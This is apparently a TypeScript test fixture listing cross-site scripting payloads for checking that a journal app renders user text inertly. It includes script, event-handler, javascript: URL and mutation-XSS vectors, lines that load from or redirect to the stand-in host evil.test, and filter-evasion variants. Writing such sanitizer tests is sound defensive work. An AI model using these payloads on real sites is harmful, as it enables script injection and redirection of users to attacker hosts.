// What would run, load or lead away if any text of the journal were taken for markup or for an address.

// Three or six of them stand in one field: an address first, and what swallows the rest of a page last.
const plain = [
  "javascript:__hit(1)",
  "<script>__hit(1)</script>",
  "<img src=x onerror=__hit(1)>",
  "<svg onload=__hit(1)>",
  '"><img src=x onerror=__hit(1)>',
  '<a href="javascript:__hit(1)">a</a>',
  "data:text/html,<script>__hit(1)</script>",
  '<iframe srcdoc="<script>parent.__hit(1)</script>"></iframe>',
  "<details open ontoggle=__hit(1)>",
  '{{constructor.constructor("__hit(1)")()}}',
  '<style>@import"//evil.test/x"</style>',
  '<meta http-equiv=refresh content="0;url=//evil.test">',
  "<form action=//evil.test><button autofocus>x</button></form>",
  "<base href=//evil.test/>",
  "<link rel=stylesheet href=//evil.test/x.css>",
  "<b>\u202Ertl</b>",
  "<input autofocus onfocus=__hit(1)>",
  "<video><source onerror=__hit(1)></video>",
  '<object data="javascript:__hit(1)"></object>',
  "<template><script>__hit(1)</script></template>",
  "<img src=//evil.test/pixel.png>",
  "</textarea><img src=x onerror=__hit(1)>",
  "</title><script src=//evil.test/x.js></script>",
  "<svg><animate onbegin=__hit(1) attributeName=x dur=1s>",
  "`+__hit(1)+`",
  "<math><mtext></table><mglyph><style><img src=x onerror=__hit(1)>",
];

/** The same again, as filters are got around: other case, slashes for spaces, entities, other quotes. */
const disguises: readonly ((payload: string) => string)[] = [
  (payload) => payload.replace(/<(\w)/g, (_all, letter: string) => `<${letter.toUpperCase()}`),
  (payload) => payload.replace(/ (on|src|href)/g, "/$1"),
  (payload) => payload.replaceAll("__hit(1)", "__hit`1`"),
  (payload) => payload.replaceAll("(", "&#40;").replaceAll(")", "&#41;"),
];

/** 26; with FULL=1 130. */
export const payloads: readonly string[] =
  process.env["FULL"] === undefined ? plain : [...plain, ...disguises.flatMap((disguise) => plain.map(disguise))];
